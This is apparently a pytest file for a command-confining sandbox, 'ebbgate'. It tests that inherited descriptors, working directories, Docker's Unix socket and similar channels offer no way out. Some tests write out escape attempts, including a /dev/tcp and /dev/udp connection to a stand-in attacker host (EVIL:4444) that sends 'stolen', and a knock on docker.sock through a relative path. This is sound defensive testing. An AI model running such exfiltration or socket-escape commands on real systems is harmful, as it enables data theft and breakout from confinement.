"""What a command inherits from the shell that started it, and the ways around the enclosure that this once opened."""

from __future__ import annotations

import os
import shlex
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from ebbgate.host.doors import find_doors
from tests.attacks.programs import PYTHON
from tests.enclosure.test_sealed import _unix_server
from tests.world import World
from tests.world.guard import Outcome
from tests.world.internet import EVIL

_KNOCK = "import os, socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({path!r})\nprint(s.recv(9))"


def in_shell(world: World, script: str, **more: object) -> Outcome:
    """A shell script in the world, in which $GUARD stands for the guard's command line up to the command."""
    guard = shlex.join([sys.executable, "-m", "ebbgate", "run"])
    done = subprocess.run(
        world.guard.entering(["bash", "-c", f"GUARD={shlex.quote(guard)}; {script}"]),
        env=world.guard.environment(), capture_output=True, timeout=60, check=False, **{"cwd": "/", **more},
    )  # fmt: skip
    return Outcome(done.returncode, done.stdout.decode(errors="replace"), done.stderr.decode(errors="replace"))


def test_a_door_is_not_reached_by_a_relative_name(world: World, tmp_path: Path) -> None:
    """Started in /run, a command still stood in the uncovered /run and could name Docker's socket from there."""
    (tmp_path / "d").mkdir()
    server = world.namespace.run(lambda: _unix_server(str(tmp_path / "d" / "docker.sock")))
    try:
        knock = shlex.join([PYTHON, "-c", _KNOCK.format(path="docker.sock")])
        enter = f"mount --bind {tmp_path} /run; cd /run/d"
        assert in_shell(world, f"{enter}; {knock}").stdout == "b'door'\n"
        guarded = in_shell(world, f"{enter}; $GUARD -- {knock}")
        assert guarded.code == 1
        assert "door" not in guarded.stdout
    finally:
        server.shutdown(socket.SHUT_RDWR)
        server.close()


def test_a_command_started_below_proc_sees_no_process_outside(world: World) -> None:
    outcome = in_shell(world, "cd /proc/$$; exec 8<&0; $GUARD -- sh -c 'pwd; ls fd'")
    assert outcome.stdout == "/\n"


def test_the_working_directory_of_another_user_is_kept(world: World, tmp_path: Path) -> None:
    """Reachable as the working directory, though not by its path."""
    (tmp_path / "inner").mkdir()
    (tmp_path / "inner").chmod(0o755)
    tmp_path.chmod(0o700)
    outcome = world.guard.run([], ["pwd"], user=34567)
    assert outcome.code == 0
    line = world.guard.entering(world.guard.command_line([], ["sh", "-c", "pwd -P"]), user=34567)
    done = subprocess.run(
        line, env=world.guard.environment(), cwd=tmp_path / "inner", capture_output=True, check=False, timeout=60
    )
    assert done.stdout.decode().strip() == str(tmp_path / "inner"), done.stderr.decode()


def test_descriptors_above_the_present_limit_are_closed(world: World) -> None:
    outcome = in_shell(world, "exec 900</etc/hostname; ulimit -Sn 256; $GUARD -- ls /proc/self/fd")
    assert outcome.code == 0, outcome.stderr
    assert "900" not in outcome.stdout


def test_a_connection_made_outside_is_no_standard_stream(world: World) -> None:
    """A network socket sends outside, and connects anew, whatever namespace its holder is in."""
    for number in (0, 1, 2):
        outcome = in_shell(world, f"exec 7<>/dev/tcp/{EVIL}/4444; $GUARD -- sh -c 'echo stolen >&{number}' {number}<&7")
        assert outcome.code == 2
        assert b"stolen" not in world.received(EVIL)
    assert "network connection" in in_shell(world, f"exec 7<>/dev/udp/{EVIL}/4444; $GUARD -- true <&7").stderr


def test_a_datagram_socket_of_the_unix_family_is_no_standard_stream(world: World) -> None:
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with ours, theirs:
        assert in_shell(world, "$GUARD -- true", stdin=theirs).code == 2


def test_a_pair_of_sockets_is_a_standard_stream(world: World) -> None:
    """As Node and ssh make them for their children."""
    ours, theirs = socket.socketpair()
    with ours:
        with theirs:
            ours.sendall(b"hello\n")
            outcome = in_shell(world, "$GUARD -- head -1", stdin=theirs)
        assert outcome.stdout == "hello\n", outcome.stderr


@pytest.mark.parametrize("closed", ["<&-", ">&-", "2>&-", "<&- >&- 2>&-"])
def test_closed_standard_streams(world: World, closed: str) -> None:
    """The guard's own channels then had the numbers of the command's standard streams."""
    target = world.directory / "home" / "descriptors"
    outcome = in_shell(world, f"$GUARD -- sh -c 'ls -l /proc/self/fd > {target}; exit 7' {closed}")
    assert outcome.code == 7, outcome.stderr
    assert "socket" not in target.read_text()


def test_the_kernels_key_helper_is_out_of_reach(world: World) -> None:
    """request_key(2) has the kernel run /sbin/request-key outside, which resolves names for keys of type dns_resolver."""
    program = "import ctypes, sys\nfor n in (248, 249, 250): print(ctypes.CDLL(None).syscall(n, b'user', b'a', b'b', 1, -3))"
    if os.uname().machine != "x86_64":
        pytest.skip("NEEDS x86_64: the numbers are this machine's")
    assert world.guard.run([], [PYTHON, "-c", program]).stdout == "-1\n-1\n-1\n"


def test_a_socket_in_a_directory_that_was_mounted_is_a_door(tmp_path: Path) -> None:
    """A host's /run or / mounted into a container holds sockets that no list of this network namespace names."""
    place = tmp_path / "host"
    (place / "run").mkdir(parents=True)
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(place / "run" / "docker.sock"))
    (tmp_path / "proc" / "self").mkdir(parents=True)
    (tmp_path / "proc" / "self" / "mountinfo").write_text(
        f"1 0 0:1 / {place} rw - ext4 /dev/vda rw\n2 0 0:2 / /proc rw - proc proc rw\n"
    )
    with server:
        found = find_doors({"HOME": "/"}, as_root=False, proc=tmp_path / "proc")
    assert str(place / "run" / "docker.sock") in found.sockets


def test_the_report_directory_is_not_the_working_directory(world: World) -> None:
    """It is covered for the command, which would then work in the uncovered one, the guard's files before it."""
    outcome = in_shell(world, "mkdir -p $WORLD/home/w/r; cd $WORLD/home/w/r; $GUARD --report .. -- touch x")
    assert outcome.code == 2
    assert "report directory" in outcome.stderr


def test_a_command_that_does_not_exist_is_not_named_by_a_secret(world: World, secret: str) -> None:
    outcome = world.guard.run([], [f"/nonexistent/{secret}"], env={"A_TOKEN": secret})
    assert outcome.code == 127
    assert secret.encode() not in outcome.everything_written()
    assert "/nonexistent/[A_TOKEN]" in outcome.stderr


def test_an_empty_command_is_a_mistake(world: World) -> None:
    assert world.guard.run([], [""]).code == 2
